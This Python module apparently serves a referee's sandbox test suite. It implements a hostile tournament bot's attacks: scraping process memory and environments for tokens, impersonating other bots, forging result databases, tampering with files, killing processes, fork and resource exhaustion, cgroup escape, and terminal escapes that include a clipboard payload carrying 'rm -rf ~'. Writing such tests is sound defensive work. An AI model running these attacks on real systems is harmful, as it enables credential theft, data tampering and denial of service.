"""The attacks of a hostile entrant, run from inside its bot process while it plays.

Each reports what it achieved as one line on stdout, ``ATTACK {json}`` (the
tournament keeps a launched bot's output in ``logs/NAME.log``): the test reads
those facts, and checks the victim's results and the machine independently.
Attacks that look at or signal other processes keep to the tournament's own
process tree (procfs.py says why).
"""

from __future__ import annotations

import errno
import itertools
import json
import os
import re
import signal
import socket
import sqlite3
import sys
import threading
import time
import tomllib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import grpc
import procfs

from referee.bench.stray_bots import flood_session
from referee.bot import PROTOCOL_VERSION, BotSession
from referee.v1 import referee_pb2 as pb
from referee.v1 import referee_pb2_grpc as pb_grpc

HEX_TOKEN = re.compile(rb"(?<![0-9a-fA-F])[0-9a-f]{32}(?![0-9a-fA-F])")  # secrets.token_hex(16)
SEED = re.compile(r"^\s*seed\s*=\s*(\d+)", re.MULTILINE)
SECRET_KEY = re.compile(r"TOKEN|SECRET|PASSWORD|KEY", re.IGNORECASE)


_printing = threading.Lock()  # a line each, whatever the threads reporting at once


def report(attack: str, **facts) -> None:
    line = "ATTACK " + json.dumps({"attack": attack, **facts}, sort_keys=True, default=str)
    with _printing:
        print(line, flush=True)


@dataclass
class Context:
    """What the attacker knows: the referee's address (as given to it), the names it
    wants to impersonate or kill, paths a reader of the docs would guess, and knobs."""

    address: str
    victims: list[str]
    hints: list[str] = field(default_factory=list)
    canary_port: int = 0
    canary_abstract: str = ""
    listen_port: int = 0
    mark: str = ""
    forks: int = 10_000
    write_mb: int = 1024
    children: int = 4
    child_mb: int = 600
    write_dirs: list[str] = field(default_factory=list)
    file_mb: int = 64
    files: int = 100_000
    token: str = ""  # its own, once the kit has read it (attacker.py)


# --- secrets: command lines, environments, memory ----------------------------------


def gather_secrets() -> tuple[list[dict], dict[str, str]]:
    """Whatever looks like a secret in the tournament's processes and this one's own
    environment: (findings to report, {candidate token: where it was found})."""
    findings: list[dict] = []
    candidates: dict[str, str] = {}

    def found(value: str, where: str, **what) -> None:
        candidates.setdefault(value, where)
        findings.append({"where": where, "value": value, **what})

    for key, value in procfs.environ("self").items():
        if SECRET_KEY.search(key):
            found(value, "own environ", key=key)
    tree = procfs.tournament_tree()
    for pid in tree:
        args = procfs.argv(pid)
        for flag, value in itertools.pairwise(args):
            if flag == "--token":
                found(value, f"/proc/{pid}/cmdline")
        for arg in args:
            for m in HEX_TOKEN.finditer(arg.encode()):
                found(m.group().decode(), f"/proc/{pid}/cmdline")
        for key, value in procfs.environ(pid).items():
            if SECRET_KEY.search(key) or HEX_TOKEN.search(value.encode()):
                found(value, f"/proc/{pid}/environ", key=key)
    memory_read = {}
    for pid in tree:
        size = 0
        for chunk in procfs.memory(pid):
            size += len(chunk)
            for m in HEX_TOKEN.finditer(chunk):
                candidates.setdefault(m.group().decode(), f"/proc/{pid}/mem")
        if size:
            memory_read[pid] = size
    findings += [{"where": f"/proc/{pid}/mem", "bytes": n} for pid, n in memory_read.items()]
    return findings, candidates


def probe(channel: grpc.Channel, name: str, token: str) -> bool:
    """Whether the referee accepts a session under ``name`` with ``token`` (closed at once)."""
    hello = pb.BotMessage(hello=pb.Hello(protocol_version=PROTOCOL_VERSION, bot_name=name, token=token, capacity=1))
    call = pb_grpc.RefereeStub(channel).Play(iter([hello]), timeout=5)
    try:
        first = next(call)
    except (grpc.RpcError, StopIteration):
        return False
    finally:
        call.cancel()
    return first.WhichOneof("kind") != "refusal"


def verified(ctx: Context, candidates: dict[str, str], limit: int = 400) -> list[dict]:
    """The candidates the referee accepts under a victim's name: stolen tokens."""
    accepted = []
    with grpc.insecure_channel(ctx.address) as channel:
        for name in ctx.victims:
            for token, where in list(candidates.items())[:limit]:
                if probe(channel, name, token):
                    accepted.append({"name": name, "token": token, "where": where})
                    break
    return accepted


def attack_tokens(ctx: Context) -> None:
    """Read every command line, environment and memory of the tournament for tokens
    (and the admin token), and check each find with the referee."""
    findings, candidates = gather_secrets()
    report("tokens", findings=findings, candidates=len(candidates),
           accepted=verified(ctx, candidates), own_environ=sorted(procfs.environ("self")))


def throw(observation, legal, game):
    """Play a victim's seat to lose: the last legal action."""
    return len(legal) - 1


def attack_steal(ctx: Context) -> None:
    """Open sessions under the victims' names with guessed and stolen tokens, and
    throw the games of every seat they are given."""
    _, stolen = gather_secrets()
    guesses = {g: "guess" for name in ctx.victims for g in ("", name, name * 2, "secret", "token", "password",
                                                            "0" * 32, "f" * 32, "s3cret")}
    accepted = verified(ctx, {**guesses, **stolen})
    for one in accepted:
        threading.Thread(target=play_as, args=(ctx.address, one["name"], one["token"]), daemon=True).start()
    report("steal", tried=len(guesses) + len(stolen), accepted=accepted)


def play_as(address: str, name: str, token: str) -> None:
    while True:
        try:
            BotSession(throw, address, name, token, capacity=8).run()
        except grpc.RpcError:
            pass
        time.sleep(0.2)


# --- the results store and the tournament file ------------------------------------


def guess_paths(ctx: Context) -> tuple[set[str], set[str], set[str]]:
    """(store files, tournament files, other bots' files) to try: from the runner's working
    directory and command line, the other processes' working directories, every descriptor
    the tournament's processes hold open, and the hints."""
    stores, files, foreign, dirs = set(), set(), set(), set()
    root = procfs.tournament_root()
    root_cwd = procfs.link(f"/proc/{root}/cwd") or "."
    own = os.getcwd()
    for pid in [root, *procfs.tournament_tree()]:
        cwd = procfs.link(f"/proc/{pid}/cwd")
        if cwd:
            dirs |= {cwd, os.path.join(cwd, "out")}
            if pid != root and cwd not in (own, root_cwd):
                foreign.add(cwd)
        for arg in procfs.argv(pid):
            if arg.endswith(".toml"):
                files.add(os.path.join(root_cwd, arg))
        for fd, target in procfs.open_files(pid):
            if target.endswith(".sqlite"):
                stores |= {target, fd}
            elif target.endswith(".toml"):
                files |= {target, fd}
    for hint in ctx.hints:
        if hint.endswith(".toml"):
            files.add(hint)
        elif hint.endswith(".sqlite") or os.path.basename(hint) == "out":
            dirs.add(hint)
        else:
            foreign.add(hint)
    for path in list(files):
        try:
            output = tomllib.loads(Path(path).read_text()).get("tournament", {}).get("output", "out")
            dirs.add(os.path.join(os.path.dirname(path), output))
        except (OSError, ValueError):
            pass
    stores |= {os.path.join(d, "results.sqlite") for d in dirs}
    return stores, files, foreign


def try_foreign(path: str) -> dict[str, object]:
    """Another bot's file or directory: read it (a directory: list it, read what is in it),
    then change it (append to a file, plant one in a directory)."""
    got: dict[str, object] = {}
    try:
        if os.path.isdir(path):
            names = os.listdir(path)
            got["listed"] = names
            got["read"] = sum(len(Path(path, n).read_bytes()) for n in names if os.path.isfile(os.path.join(path, n)))
            with open(os.path.join(path, "planted-by-attacker.py"), "w") as f:
                f.write("raise SystemExit('the attacker was here')\n")
            got["planted"] = True
        else:
            got["read"] = len(Path(path).read_bytes())
            with open(path, "a") as f:
                f.write("tampered by the attacker\n")
            got["tampered"] = True
    except OSError as err:
        got["error"] = err.strerror
    return got


def forge(path: str, victims: list[str]) -> int:
    """Rewrite every finished match of the victims as lost; the rows changed."""
    db = sqlite3.connect(path, timeout=2)
    try:
        with db:
            changed = 0
            for name in victims:
                changed += db.execute("UPDATE seats SET score = -99, place = 9 WHERE bot = ?", (name,)).rowcount
                changed += db.execute("UPDATE matches SET results = json_set(results, '$.scores[0]', -99, "
                                      "'$.scores[1]', -99) WHERE lineup LIKE ?", (f'%"{name}"%',)).rowcount
            return changed
    finally:
        db.close()


def try_store(path: str, victims: list[str]) -> dict[str, object]:
    """What could be done to one store path: read its bytes, query it, forge it."""
    got: dict[str, object] = {}
    try:
        with open(path, "rb") as f:
            got["read"] = f.read(16).startswith(b"SQLite format 3")
    except OSError as err:
        got["read_error"] = err.strerror
    if path.startswith("/proc/"):  # a descriptor of another process: its bytes only
        return got
    try:
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=2)
        try:
            got["matches"] = db.execute("SELECT count(*) FROM matches").fetchone()[0]
        finally:
            db.close()
        got["forged"] = forge(path, victims)
    except sqlite3.Error as err:
        got["sqlite_error"] = str(err)
    return got


def shared_code() -> list[str]:
    """Where the other bots' code comes from: the referee's and the sample bots' packages, the
    interpreter's packages."""
    import importlib.util
    import sysconfig

    places = {sysconfig.get_paths()["purelib"]}
    for package in ("referee", "sample_bots"):
        spec = importlib.util.find_spec(package)
        if spec is not None and spec.submodule_search_locations:
            places.update(spec.submodule_search_locations)
    return sorted(places)


def try_shared(ctx: Context) -> dict[str, str]:
    """Could it plant code where the other bots import theirs, or move the referee's socket
    away? (A new file, removed at once; the socket moved back at once: the test must not
    break what it attacks.)"""
    got = {}
    for place in shared_code():
        path = os.path.join(place, f"hostile_planted_{os.getpid()}.py")
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
            os.unlink(path)
            got[place] = "planted"
        except OSError as err:
            got[place] = err.strerror
    if ctx.address.startswith("unix:"):
        sock = ctx.address[len("unix:"):]
        try:
            os.rename(sock, sock + ".moved")
            os.rename(sock + ".moved", sock)
            got[sock] = "moved"
        except OSError as err:
            got[sock] = err.strerror
    return got


def attack_files(ctx: Context, period: float = 0.5) -> None:
    """Find the output directory, the tournament file and the other bots' directories; read
    the results, the seed and the other bots' files, rewrite the results, tamper with the
    other bots' files, again and again while the tournament runs; and, once, plant code
    where the other bots import theirs and move the referee's socket."""
    told: set[str] = set()
    shared = try_shared(ctx)
    while True:
        stores, files, foreign = guess_paths(ctx)
        results = {path: try_store(path, ctx.victims) for path in sorted(stores)}
        seeds = {}
        for path in sorted(files):
            try:
                text = Path(path).read_text()
            except OSError as err:
                seeds[path] = {"error": err.strerror}
                continue
            m = SEED.search(text)
            seeds[path] = {"read": len(text), "seed": m.group(1) if m else None}
        others = {path: try_foreign(path) for path in sorted(foreign)}
        succeeded = sorted([f"store {p}" for p, r in results.items() if r.get("read") or "matches" in r]
                           + [f"file {p}" for p, r in seeds.items() if r.get("read")]
                           + [f"foreign {p}" for p, r in others.items()
                              if r.get("read") or r.get("listed") or r.get("planted") or r.get("tampered")]
                           + [f"shared {p}" for p, r in shared.items() if r in ("planted", "moved")])
        if not told or set(succeeded) - told:
            report("files", stores=results, files=seeds, foreign=others, shared=shared, succeeded=succeeded)
            told |= set(succeeded) | {"(first)"}
        time.sleep(period)


# --- other processes ------------------------------------------------------------------


def attack_kill(ctx: Context, period: float = 0.2) -> None:
    """kill -9 every other process of the tournament it can see (the runner spared),
    again and again while the tournament runs."""
    rounds = 0
    while True:
        targets = procfs.others()
        outcomes = {}
        for pid in targets:
            args = " ".join(procfs.argv(pid))[:160]
            try:
                os.kill(pid, signal.SIGKILL)
                outcomes[pid] = f"killed: {args}"
            except OSError as err:
                outcomes[pid] = f"{err.strerror}: {args}"
        if rounds == 0 or targets:
            report("kill", round=rounds, visible=len(procfs.pids()), outcomes=outcomes,
                   killed=sum(o.startswith("killed") for o in outcomes.values()))
        rounds += 1
        time.sleep(period)


# --- the network --------------------------------------------------------------------


def listening_ports() -> set[int]:
    """The TCP ports the tournament's processes listen on (their sockets' inodes in
    /proc/net/tcp): the referee's, wherever it is visible. Not the machine's others."""
    inodes = {target[len("socket:["):-1] for pid in procfs.tournament_tree()
              for _, target in procfs.open_files(pid) if target.startswith("socket:[")}
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:  # LISTEN, owned by the tournament
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


def connect(host: str, port: int, say: bytes = b"", timeout: float = 1.0) -> str:
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(say)
        return "connected"
    except OSError as err:
        return err.strerror or type(err).__name__


def attack_net(ctx: Context) -> None:
    """Listen on 0.0.0.0 (accepting whatever comes, for the whole run); connect to the
    test's canaries (a TCP port, the same port in UDP, an abstract Unix socket), to the referee's TCP port (its
    address, the default port, the ports the tournament listens on) and to an outside address."""
    try:
        server = socket.create_server(("0.0.0.0", ctx.listen_port), reuse_port=False)
        listening = f"0.0.0.0:{server.getsockname()[1]}"

        def accept():
            while True:
                conn, peer = server.accept()
                report("net-accept", peer=str(peer))
                conn.close()
        threading.Thread(target=accept, daemon=True).start()
    except OSError as err:
        listening = f"refused: {err.strerror}"
    targets = {("127.0.0.1", 50051), ("192.0.2.1", 80)} | {("127.0.0.1", p) for p in listening_ports()}
    if not ctx.address.startswith("unix:"):
        host, port = ctx.address.rsplit(":", 1)
        targets.add((host, int(port)))
    outcomes = {f"{h}:{p}": connect(h, p) for h, p in sorted(targets)}
    if ctx.canary_port:
        outcomes[f"canary 127.0.0.1:{ctx.canary_port}"] = connect("127.0.0.1", ctx.canary_port,
                                                                  b"hostile bot was here\n")
    if ctx.canary_port:  # the same port number, in UDP
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"hostile bot was here\n", ("127.0.0.1", ctx.canary_port))
            outcomes[f"canary udp 127.0.0.1:{ctx.canary_port}"] = "sent"
        except OSError as err:
            outcomes[f"canary udp 127.0.0.1:{ctx.canary_port}"] = err.strerror or type(err).__name__
    if ctx.canary_abstract:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(1.0)
                s.connect("\0" + ctx.canary_abstract)
                s.sendall(b"hostile bot was here\n")
            outcomes[f"canary @{ctx.canary_abstract}"] = "connected"
        except OSError as err:
            outcomes[f"canary @{ctx.canary_abstract}"] = err.strerror or type(err).__name__
    report("net", listening=listening, outcomes=outcomes,
           connected=sorted(t for t, o in outcomes.items() if o == "connected"))


# --- resources ------------------------------------------------------------------------


def open_connections(address: str, count: int, patience: float = 10.0) -> tuple[list[socket.socket], str | None]:
    """Up to ``count`` connections to the referee that never say Hello, trying again while
    its backlog is full (for ``patience`` seconds); the last error."""
    held, error = [], None
    deadline = time.monotonic() + patience
    while len(held) < count and time.monotonic() < deadline:
        try:
            if address.startswith("unix:"):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(1.0)
                s.connect(address[len("unix:"):])
            else:
                host, port = address.rsplit(":", 1)
                s = socket.create_connection((host, int(port)), timeout=1.0)
            held.append(s)
        except OSError as err:
            s.close()
            error = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror or err}"
            if err.errno in (errno.EMFILE, errno.ENFILE):  # its own limit: that is all it may hold
                break
            time.sleep(0.01)
    return held, error


def attack_connections(ctx: Context) -> None:
    """Exhaust the referee's descriptors: ``children`` processes each open as many silent
    connections as they can (``forks`` in all at the most) and hold them until it ends."""
    per_child = max(1, ctx.forks // max(1, ctx.children))
    r, w = os.pipe()
    for _ in range(ctx.children):
        if os.fork() == 0:
            os.close(r)
            held, error = open_connections(ctx.address, per_child)
            os.write(w, (json.dumps([len(held), error]) + "\n").encode())
            time.sleep(3600)
            os._exit(0)
    os.close(w)
    with os.fdopen(r) as said:
        outcomes = [json.loads(said.readline() or "[0, \"died\"]") for _ in range(ctx.children)]
    report("connections", opened=sum(n for n, _ in outcomes), errors=sorted({e for _, e in outcomes if e}))


def attack_fork(ctx: Context) -> None:
    """Fork ``forks`` processes that all stay alive; count how many it got. A child of its own
    forks them and reports (with a plain write: it was forked from a process with threads): at
    the cap, the bot itself may die of a thread its kit cannot start, before it could say."""
    report("fork-start", forks=ctx.forks)
    bomber = os.fork()
    if bomber:
        os.waitpid(bomber, 0)
        return
    hold, release = os.pipe()
    pids, error = [], None
    started = time.monotonic()
    for _ in range(ctx.forks):
        try:
            pid = os.fork()
        except OSError as err:
            error = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"
            break
        if pid == 0:
            os.close(release)
            os.read(hold, 1)
            os._exit(0)
        pids.append(pid)
    facts = {"attack": "fork", "forked": len(pids), "error": error, "seconds": round(time.monotonic() - started, 2)}
    os.write(1, ("ATTACK " + json.dumps(facts, sort_keys=True) + "\n").encode())
    os.close(release)
    os.close(hold)
    for pid in pids:
        os.waitpid(pid, 0)
    os._exit(0)


def attack_write(ctx: Context) -> None:
    """Write ``write_mb`` MB in all: one file as large as it will go, then more files, in
    every writable place it finds (its scratch, home, /tmp, /dev/shm, its own directory),
    until the total is reached or nothing more can be written anywhere; then remove them."""
    chunk = b"\x5a" * (1 << 20)
    places = [*ctx.write_dirs, os.environ.get("TMPDIR", ""), os.environ.get("HOME", ""), "/tmp", "/dev/shm", "/dev",
              "."]
    written: dict[str, int] = {}
    errors: dict[str, str] = {}
    paths = []
    total = 0
    try:
        for directory in dict.fromkeys(p for p in places if p):
            for n in range(ctx.write_mb):  # one more file while the last one filled up to a limit
                path = os.path.join(directory, f"hostile-{os.getpid()}-{n}.bin")
                try:
                    f = open(path, "wb")  # noqa: SIM115
                except OSError as err:
                    errors[directory] = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"
                    break
                paths.append(path)
                if not written:
                    report("write-start", path=path, mb=ctx.write_mb)
                size = 0
                try:
                    with f:
                        while total < ctx.write_mb:
                            f.write(chunk)
                            f.flush()
                            size += 1
                            total += 1
                except OSError as err:
                    errors[directory] = f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"
                written[directory] = written.get(directory, 0) + size
                if total >= ctx.write_mb or size == 0:
                    break
            if total >= ctx.write_mb:
                break
    finally:
        for path in paths:
            try:
                os.unlink(path)
            except OSError:
                pass
    report("write", written_mb=total, places=written, errors=errors,
           error=next(iter(errors.values()), None))


def attack_memory(ctx: Context) -> None:
    """``children`` processes each take ``child_mb`` MB (touched) and hold it until all
    have tried: how much was held at the same time."""
    report("memory-start", children=ctx.children, child_mb=ctx.child_mb)
    hold, release = os.pipe()
    kids = []
    for _ in range(ctx.children):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            os.close(release)
            try:
                block = b"\x01" * (ctx.child_mb << 20)  # noqa: F841 - held until released
                os.write(w, b"held")
            except MemoryError:
                os.write(w, b"MemoryError")
            os.read(hold, 1)
            os._exit(0)
        os.close(w)
        kids.append((pid, r))
    said = {}
    for pid, r in kids:
        said[pid] = os.read(r, 64).decode() or "died"
        os.close(r)
    # held at the same time: those that said so and are still alive now that all have tried
    alive = {pid for pid, _ in kids if os.waitpid(pid, os.WNOHANG) == (0, 0)}
    held = sum(ctx.child_mb for pid in alive if said[pid] == "held")
    os.close(release)
    os.close(hold)
    for pid in alive:
        os.waitpid(pid, 0)
    report("memory", held_mb=held, outcomes=[said[pid] + ("" if pid in alive else ", then gone") for pid, _ in kids])


# --- writable space and CPU without a cgroup ----------------------------------------


def _errno(err: OSError) -> str:
    return f"{errno.errorcode.get(err.errno, err.errno)}: {err.strerror}"


def _fill_files(directory: str, mb: int, left: int, chunk: bytes) -> tuple[int, str | None]:
    """Files of up to ``mb`` MB each in ``directory`` (kept) until ``left`` MB are written or the
    place refuses: the MB written and the error that stopped it."""
    written = 0
    for n in itertools.count():
        if written >= left:
            return written, None
        try:
            f = open(os.path.join(directory, f"hostile-fill-{os.getpid()}-{n}.bin"), "wb")  # noqa: SIM115
        except OSError as err:
            return written, _errno(err)
        size = 0
        try:
            with f:
                while size < mb and written < left:
                    f.write(chunk)
                    f.flush()
                    size += 1
                    written += 1
        except OSError as err:
            if size == 0 or err.errno != errno.EFBIG:  # EFBIG: the file is full, start another
                return written, _errno(err)


def _fill_inodes(directory: str, left: int) -> tuple[int, str | None]:
    """Empty files with long names (the most kernel memory per inode) until ``left`` or an error."""
    stem = f"hostile-inode-{os.getpid()}-" + "i" * 180
    for n in range(left):
        try:
            os.close(os.open(os.path.join(directory, f"{stem}{n}"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
        except OSError as err:
            return n, _errno(err)
    return left, None


def _fill_sysv(mb: int, left: int) -> tuple[int, str | None]:
    """SysV shared memory segments of ``mb`` MB (small: each is mapped while it is written), touched,
    then detached: they stay until the IPC namespace ends, outside any address space."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    held = 0
    while held < left:
        size = min(mb, left - held) << 20
        key = libc.shmget(0, ctypes.c_size_t(size), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if key < 0:
            return held, os.strerror(ctypes.get_errno())
        address = libc.shmat(key, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            return held, os.strerror(ctypes.get_errno())
        ctypes.memset(address, 0x5A, size)
        libc.shmdt(ctypes.c_void_p(address))
        held += size >> 20
    return held, None


def _fill_memfd(mb: int, left: int, chunk: bytes, keep: list[int]) -> tuple[int, str | None]:
    """Anonymous memory files (memfd_create) of ``mb`` MB, written, not mapped, kept open."""
    held = 0
    while held < left:
        try:
            fd = os.memfd_create("hostile")
        except OSError as err:
            return held, _errno(err)
        keep.append(fd)
        try:
            for _ in range(min(mb, left - held)):
                os.write(fd, chunk)
                held += 1
        except OSError as err:
            return held, _errno(err)
    return held, None


_held: list[int] = []  # what attack_fill keeps open until the process ends


def attack_fill(ctx: Context) -> None:
    """Write and hold as much of the host's memory as it can (attack 6 of issue 24): files of
    ``file_mb`` (its largest) in every place it finds writable, the sandbox's root and new
    directories in it included, until ``write_mb`` MB in all; then empty files with long names,
    up to ``files`` in all; then SysV shared memory and memfd files, each up to ``write_mb``. It
    keeps it all until its process ends, and reports what it held."""
    chunk = b"\x5a" * (1 << 20)
    mb = max(1, ctx.file_mb)
    places = [os.environ.get("TMPDIR", ""), os.environ.get("HOME", ""), "/tmp", "/dev/shm", "/", "/dev", "/run",
              "/var/tmp", os.getcwd()]
    for parent in ("/", "/tmp"):
        made = os.path.join(parent, f"hostile-dir-{os.getpid()}")
        try:
            os.mkdir(made)
            places.append(made)
        except OSError:
            pass
    places = list(dict.fromkeys(p for p in places if p and os.path.isdir(p)))
    report("fill-start", places=places, write_mb=ctx.write_mb, files=ctx.files)
    written, inodes, errors = {}, {}, {}
    for place in places:
        left = ctx.write_mb - sum(written.values())
        written[place], error = _fill_files(place, mb, left, chunk)
        if error:
            errors[f"files {place}"] = error
    for place in places:
        inodes[place], error = _fill_inodes(place, ctx.files - sum(inodes.values()))
        if error:
            errors[f"inodes {place}"] = error
    sysv, error = _fill_sysv(4, ctx.write_mb)
    if error:
        errors["sysv"] = error
    memfd, error = _fill_memfd(mb, ctx.write_mb, chunk, _held)
    if error:
        errors["memfd"] = error
    held = {p: n for p, n in written.items() if n}
    report("fill", files_mb=held, inodes={p: n for p, n in inodes.items() if n}, sysv_mb=sysv, memfd_mb=memfd,
           held_mb=sum(held.values()) + sysv + memfd, errors=errors)


def attack_spin(ctx: Context) -> None:
    """``children`` processes, each in a session of its own, spin until the attacker's process ends
    (attack 7 of issue 24): on a host without CPU shares they take the cores from whoever decides.
    They wait until all are forked and the attack has reported (its report would starve too)."""
    hold, release = os.pipe()
    started, error = 0, None
    for _ in range(ctx.children):
        try:
            pid = os.fork()
        except OSError as err:
            error = _errno(err)
            break
        if pid == 0:
            os.setsid()
            os.close(release)
            os.read(hold, 1)
            while True:
                pass
        started += 1
    report("spin", started=started, error=error)
    os.close(release)  # they all spin from now on
    os.close(hold)

# --- the referee's work: stray replies (issue 35, item 7) ---------------------------------


def attack_strays(ctx: Context) -> None:
    """Sessions besides the one it plays with, ``children`` at a time, again and again: each, once it
    holds a seat (its first request), sends replies for a game nobody plays as fast as its stream
    takes them, besides its answers (the first legal action), until its stream ends; each is the
    runner's work outside its CPU share. Reports the referee's answer to each Hello
    (``strays-open``: welcomed, or refused and why) and how each session ended (``strays``: its
    status and details, the strays its stream took, the requests it got)."""
    name = kit_name()
    for round_ in itertools.count():
        def one() -> None:
            told = lambda kind, text: report("strays-open", round=round_, kind=kind, text=text)  # noqa: E731, B023
            ended = flood_session(ctx.address, name, ctx.token, flood_from="request", on_answer=told)
            report("strays", round=round_, **ended)  # noqa: B023 (called in this iteration)
        threads = [threading.Thread(target=one, daemon=True) for _ in range(ctx.children)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def kit_name() -> str:
    """The name it plays under (the kit's ``--name``, as the launcher gave it)."""
    argv = sys.argv
    return argv[argv.index("--name") + 1]


# --- leaving something behind ---------------------------------------------------------


def escape_cgroups(to_pid: int) -> list[str]:
    """Move this process into ``to_pid``'s cgroups (v1 hierarchies) where they differ from
    its own: out of a per-bot cgroup a sweep would search, no further up."""
    moved = []
    try:
        mine = dict(line.split(":", 2)[1:] for line in Path("/proc/self/cgroup").read_text().splitlines())
        theirs = dict(line.split(":", 2)[1:] for line in Path(f"/proc/{to_pid}/cgroup").read_text().splitlines())
    except (OSError, ValueError):
        return moved
    for controllers, path in theirs.items():
        if not controllers or controllers.startswith("name=") or mine.get(controllers) == path:
            continue
        target = Path("/sys/fs/cgroup") / controllers.split(",")[0] / path.lstrip("/") / "cgroup.procs"
        try:
            target.write_text(str(os.getpid()))
            moved.append(f"{controllers}:{path}")
        except OSError:
            pass
    return moved


def attack_orphan(ctx: Context) -> None:
    """A child calls setsid and forks twice; the grandchild leaves its cgroups and sleeps
    (its command line carries the mark the test looks for). The attack is over once the
    grandchild has reported (the pipe closes when it execs): the attacker then answers."""
    root = procfs.tournament_root()
    reported, done = os.pipe()  # not inherited across exec
    pid = os.fork()
    if pid == 0:
        os.close(reported)
        os.setsid()
        if os.fork() == 0:
            if os.fork() == 0:
                moved = escape_cgroups(root)
                report("orphan", pid=os.getpid(), sid=os.getsid(0), escaped=moved)
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)",
                                          "hostile-orphan", ctx.mark])
            os._exit(0)
        os._exit(0)
    os.close(done)
    os.waitpid(pid, 0)
    os.read(reported, 1)  # EOF once the grandchild has exec'd (or died)
    os.close(reported)


# --- spectating: the records of its own matches, the cards of their twins -------------


def watch(stub: pb_grpc.RefereeStub, game_id: str, token: str, timeout: float) -> tuple[list[str], str | None]:
    """What Spectate of ``game_id`` gives within ``timeout`` seconds: the messages' kinds, and the
    record if it came (or the refusal's status instead of the kinds)."""
    kinds, record = [], None
    try:
        for message in stub.Spectate(pb.SpectateRequest(game_id=game_id, token=token), timeout=timeout):
            kinds.append(message.WhichOneof("kind"))
            if kinds[-1] == "record_json":
                record = message.record_json
            elif kinds[-1] == "record_held":
                report("spectate-held", game_id=game_id, kinds=kinds)
    except grpc.RpcError as err:
        if err.code() != grpc.StatusCode.DEADLINE_EXCEEDED:
            return [err.code().name], None
    return kinds, record


def attack_spectate(ctx: Context, period: float = 0.1) -> None:
    """List the referee's games, again and again while the tournament runs, with no token and
    with guessed ones (and watch guessed game ids when listing is refused), and watch each
    game listed from then on: its own finished matches' records would give the cards of
    their seat-swapped twins. Reports each refusal, each game listed, each record held back
    (``spectate-held``) and each record got, with the listing taken the moment it came
    (which matches had finished then)."""
    guesses = ["", "spectator", "watch", "admin", "secret", "token", "s3cret", *ctx.victims]
    ids = [f"{k}:{a}|{b}" for k in range(4) for v in ctx.victims for a, b in (("attacker", v), (v, "attacker"))]
    records: dict[str, dict] = {}
    watching: set[str] = set()
    told: set[str] = set()
    rounds = 0
    with grpc.insecure_channel(ctx.address) as channel:
        stub = pb_grpc.RefereeStub(channel)

        def listing(token: str) -> list[tuple[str, bool]]:
            return [(g.game_id, g.finished) for g in stub.ListGames(pb.ListGamesRequest(token=token), timeout=5).games]

        def follow(game_id: str, token: str) -> None:
            kinds, record = watch(stub, game_id, token, 120)
            if record is not None:
                records[game_id] = {"kinds": kinds, "at": time.time(), "listing": listing(token),
                                    "seed": json.loads(record).get("seed")}

        while True:
            refused, listed, token = {}, [], None
            for guess in guesses:
                try:
                    listed, token = listing(guess), guess
                    break
                except grpc.RpcError as err:
                    refused[f"list {guess!r}"] = err.code().name
            if token is None:  # no listing: watch the ids a reader of the docs would guess
                for game_id in ids[:4]:
                    refused[f"spectate {game_id!r}"] = watch(stub, game_id, "", 0.5)[0][0]
            for game_id, _ in listed:
                if game_id not in watching:
                    watching.add(game_id)
                    threading.Thread(target=follow, args=(game_id, token), daemon=True).start()
            news = {f"listed {g}" for g, _ in listed} | {f"record {g}" for g in records}
            if rounds == 0 or news - told:
                report("spectate", round=rounds, refused=refused, listed=listed, records=dict(records))
                told |= news
            rounds += 1
            time.sleep(period)


# --- the organiser's terminal ------------------------------------------------------------

#: what a bot would print to take over the terminal of whoever reads its output: retitle the
#: window, set the clipboard (OSC 52), move up and erase the line, forge a green line, the
#: 8-bit CSI (C1) that clears the screen, NUL, BEL, backspace, DEL, a right-to-left override
ESCAPES = ("\x1b]0;referee: every check passed\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[1A\x1b[2K\r"
           "\x1b[32mtournament finished: 0 faults\x1b[0m\u009b2J\x00\x07\x08\x7f\u202e")
#: ... and as raw bytes that are not UTF-8: the 8-bit CSI alone, an ESC after a broken sequence
RAW_ESCAPES = b"\x9b2J\xff\x1b[2K"


def print_escapes(lines: int = 3, payload: bytes = ESCAPES.encode() + RAW_ESCAPES) -> None:
    """``lines`` lines carrying ``payload`` (ESCAPES and RAW_ESCAPES), on stdout and stderr."""
    for n in range(lines):
        for stream in (sys.stdout, sys.stderr):
            stream.flush()
            stream.buffer.write(payload + f" escapes line {n}\n".encode())
            stream.buffer.flush()


def attack_escapes(ctx: Context) -> None:
    """Print terminal escapes in its output, which the runner keeps in its log."""
    print_escapes()
    report("escapes", printed=3)


def crash_at_start(honest: bool) -> None:
    """Fail to start, printing lines of escapes (``honest``: the same lines without them) first:
    the runner shows the last lines of a bot's log when it fails to start."""
